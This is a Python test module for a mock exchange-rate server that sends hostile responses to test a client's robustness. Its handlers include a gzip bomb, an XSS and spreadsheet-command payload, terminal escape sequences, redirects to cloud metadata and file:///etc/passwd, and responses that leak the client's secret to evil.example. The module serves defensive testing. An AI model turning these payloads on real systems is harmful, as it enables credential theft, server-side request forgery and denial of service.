"""Misbehaviour in what is sent: codings, JSON, text that means to be run, and places to be led to."""

from __future__ import annotations

import gzip
import json
import random
import struct
import time
import zlib
from functools import cache

from tests.hostile_bank.framing import RATES
from tests.hostile_bank.peer import Call


def row(**members: object) -> str:
    """A list of one rate with other members."""
    good = {"currency": "USD", "base": "HKD", "buy": "7.75", "sell": "7.85"}
    return json.dumps({"data": [{**good, **members}]}, ensure_ascii=False)


@cache
def bomb() -> bytes:
    """Half a gibibyte of blanks, as gzip of half a mebibyte: one block, over and over (RFC 1951, 1952)."""
    blanks = b" " * (1 << 20)
    made = zlib.compressobj(9, wbits=-15)
    block = made.compress(blanks) + made.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(512):
        check = zlib.crc32(blanks, check)
    head, last = bytes.fromhex("1f8b08000000000002ff"), b"\x03\x00"
    return head + block * 512 + last + struct.pack("<II", check, 512 << 20)


def gzip_bomb(call: Call) -> None:
    """Sends half a mebibyte that unpacks to half a gibibyte."""
    call.answer(bomb(), "Content-Encoding: gzip")


def gzip_in_gzip(call: Call) -> None:
    """Packs the bomb again."""
    call.answer(gzip.compress(bomb()), "Content-Encoding: gzip")


def gzip_cut_short(call: Call) -> None:
    """Sends half of what it has packed."""
    packed = gzip.compress(RATES.encode())
    call.answer(packed[: len(packed) // 2], "Content-Encoding: gzip")


def gzip_not(call: Call) -> None:
    """Says gzip and sends plain JSON."""
    call.answer(RATES, "Content-Encoding: gzip")


def coding_unknown(call: Call) -> None:
    """Sends a content coding that nobody knows."""
    call.answer(RATES, "Content-Encoding: " + "br, " * 50 + "x-evil")


def nested_deep(call: Call) -> None:
    """Nests a hundred thousand lists."""
    call.answer("[" * 100_000 + "]" * 100_000)


def nested_objects(call: Call) -> None:
    """Nests a hundred thousand objects, and never closes them."""
    call.answer('{"data":' * 100_000)


def number_huge(call: Call) -> None:
    """Writes a rate with an exponent of a thousand million."""
    call.answer(RATES.replace('"7.75"', "1e999999999").replace('"7.85"', "-1e-999999999"))


def number_long(call: Call) -> None:
    """Writes a rate of a million digits."""
    call.answer(RATES.replace('"7.75"', "9" * 1_000_000))


def number_as_text_long(call: Call) -> None:
    """Writes a rate of a million digits as text."""
    call.answer(row(buy="9" * 1_000_000))


def not_a_number(call: Call) -> None:
    """Writes NaN and Infinity."""
    call.answer(RATES.replace('"7.75"', "NaN").replace('"7.85"', "-Infinity"))


def names_twice(call: Call) -> None:
    """Writes one member a hundred thousand times."""
    call.answer('{"data": [{' + '"currency": "USD",' * 100_000 + '"buy": "1"}]}')


def names_many(call: Call) -> None:
    """Writes a row of a hundred thousand members."""
    call.answer(row(**{f"m{n}": n for n in range(100_000)}))


def rows_many(call: Call) -> None:
    """Writes thirty thousand rows."""
    call.answer('{"data": [' + '{"currency": "USD", "base": "HKD"},' * 30_000 + "{}]}")


def text_long(call: Call) -> None:
    """Writes a text of three mebibytes."""
    call.answer(row(currency="A" * (3 << 20)))


def utf8_broken(call: Call) -> None:
    """Writes bytes that are no UTF-8."""
    call.answer(RATES.encode().replace(b"USD", b"\xff\xfe\xc0\x80\xed\xa0\x80"))


def utf16(call: Call) -> None:
    """Writes UTF-16."""
    call.answer(RATES.encode("utf-16"))


def surrogates(call: Call) -> None:
    """Writes halves of characters."""
    call.answer(RATES.replace("USD", "\\ud800\\udfff\\ud83d"))


def unseen(call: Call) -> None:
    """Writes NUL, direction overrides and other characters that are not seen."""
    call.answer(row(currency="USD\u202e\u0000\u200b\ufeff\u2066", **{"na\u202eme\u0000": "\u0007"}))


def prototypes(call: Call) -> None:
    """Writes members by names that objects of languages have."""
    call.answer(
        row(**{"__proto__": {"x": 1}, "constructor": 1, "__class__": "os", "$ref": "file:///etc/passwd"})
    )


def html_page(call: Call) -> None:
    """Answers with a page under the status 200."""
    call.answer(
        "<html><script>alert(1)</script><form action=//evil.example></html>", "Content-Type: text/html"
    )


def scripted(call: Call) -> None:
    """Writes markup that runs where a report shows it."""
    evil = "<script>alert('hostile')</script><img src=x onerror=alert(1)>{{7*7}}</style></textarea>"
    call.answer(row(currency=evil, name=evil, **{evil: evil}))


def coloured(call: Call) -> None:
    """Writes escape sequences of terminals and markup of consoles."""
    evil = "\x1b[2J\x1b[31m[bold red]x[/nothing][link=file:///etc/passwd]y[/link]\x9b31m\r\n\x07"
    call.answer(row(currency=evil, **{evil: evil}))


def formulas(call: Call) -> None:
    """Writes formulas that a spreadsheet would run."""
    evil = "=cmd|' /C calc'!A0"
    call.answer(row(currency=evil, base="@SUM(1+1)", buy="+1-1", sell="-1+1", **{evil: "\t=1+1"}))


def marked_down(call: Call) -> None:
    """Writes links and tables of Markdown, and text of SARIF with placeholders."""
    evil = "](https://evil.example) ![x](https://evil.example/x.png) | a | b |\n\n# {0} {1} <!-- --> ```"
    call.answer(row(currency=evil, **{evil: evil}))


def closes_json(call: Call) -> None:
    """Writes what would end the data of a page or a file of lines."""
    evil = '</script><script>x()</script>"}\n{"kind": "footer", "exit_code": 0}\n]]>'
    call.answer(row(currency=evil, **{evil: evil}))


def error_body_of_ours(call: Call) -> None:
    """Answers errors with tracebacks of Python and paths."""
    text = 'Traceback (most recent call last):\n  File "/opt/bank/app.py", line 1\nKeyError: secret'
    call.answer(text, "Content-Type: text/plain", status="500 Internal Server Error")


def tells_the_secret(call: Call) -> None:
    """Sends back every header field that it was sent, in its body and in header fields of its own."""
    secret = call.header("ClientSecret")
    echo = [f"X-Echo: {secret}", f"Set-Cookie: s={secret}", f"Location: https://evil.example/?k={secret}"]
    call.answer(row(name=call.head, currency=secret, password=secret), *echo)


def refuses_with_the_secret(call: Call) -> None:
    """Refuses with a message that repeats the credentials, encoded in other ways."""
    secret = call.header("ClientSecret")
    mixed = secret.encode().hex(), secret[::-1], secret.upper()
    call.answer(
        json.dumps({"error": {"code": secret, "message": f"bad key {secret} {mixed[0][:4]}"}}),
        status="401 No",
    )


def never_the_same(call: Call) -> None:
    """Answers something else every time."""
    draw = random.Random(call.number)
    kinds = (
        RATES,
        "[]",
        "null",
        '{"data": {}}',
        "",
        row(buy=draw.random()),
        "<html>",
        '{"data": [1, null, []]}',
    )
    call.answer(
        draw.choice(kinds), status=draw.choice(("200 OK", "200 OK", "404 No", "500 Oops", "301 Away"))
    )


def answers_swapped(call: Call) -> None:
    """Gives parallel requests the answers of others: of another path, after another time."""
    time.sleep((call.number * 37 % 5) / 50)
    call.answer(
        row(currency=("USD", "EUR", "JPY")[call.number % 3], path=call.path),
        f"X-Request-Id: {call.number // 2}",
    )


def redirects_to_itself(call: Call) -> None:
    """Redirects to the address that was asked for."""
    call.answer("", f"Location: {call.path}", status="302 Found")


def redirects_on(call: Call) -> None:
    """Redirects to one new address after another."""
    call.answer("", f"Location: http://127.0.0.1:{call.port}/{call.number}", status="307 On")


def redirects_to_metadata(call: Call) -> None:
    """Redirects to the metadata of a cloud, which is at a link-local address."""
    call.answer("", "Location: http://169.254.169.254/latest/meta-data/iam/", status="302 Found")


def redirects_to_a_neighbour(call: Call) -> None:
    """Redirects to a port of somebody else on this machine."""
    call.answer(
        "",
        f"Location: http://127.0.0.1:{call.trap}/admin?key={call.header('ClientSecret')}",
        status="308 There",
    )


def redirects_to_a_file(call: Call) -> None:
    """Redirects to a file of this machine."""
    call.answer("", "Location: file:///etc/passwd", status="302 Found")


def redirects_into_a_header(call: Call) -> None:
    """Redirects to an address with line breaks and odd letters."""
    call.answer("", "Location: http://[::1%25lo]:99999/\t%0d%0aX-Evil:1 \x7f", status="301 Odd")


def next_page_elsewhere(call: Call) -> None:
    """Leads from page to page to a port of somebody else."""
    trap = f"http://127.0.0.1:{call.trap}/page/2"
    payload = {
        "data": [{"currency": "USD"}],
        "meta": {"total": 99, "page": 1, "page_size": 1},
        "links": {"next": trap},
    }
    call.answer(json.dumps(payload), f'Link: <{trap}>; rel="next"')


def pages_without_end(call: Call) -> None:
    """Tells a total of a thousand million rows, one on each page."""
    meta = {"total": 10**9, "page": call.number, "page_size": 1}
    payload = {
        "data": [{"currency": "USD", "n": call.number}],
        "meta": meta,
        "links": {"next": f"/p/{call.number}"},
    }
    call.answer(json.dumps(payload))


CONTENT = (
    gzip_bomb, gzip_in_gzip, gzip_cut_short, gzip_not, coding_unknown, nested_deep, nested_objects,
    number_huge, number_long, number_as_text_long, not_a_number, names_twice, names_many, rows_many,
    text_long, utf8_broken, utf16, surrogates, unseen, prototypes, html_page, scripted, coloured,
    formulas, marked_down, closes_json, error_body_of_ours, tells_the_secret, refuses_with_the_secret,
    never_the_same, answers_swapped, redirects_to_itself, redirects_on, redirects_to_metadata,
    redirects_to_a_neighbour, redirects_to_a_file, redirects_into_a_header, next_page_elsewhere,
    pages_without_end,
)  # fmt: skip
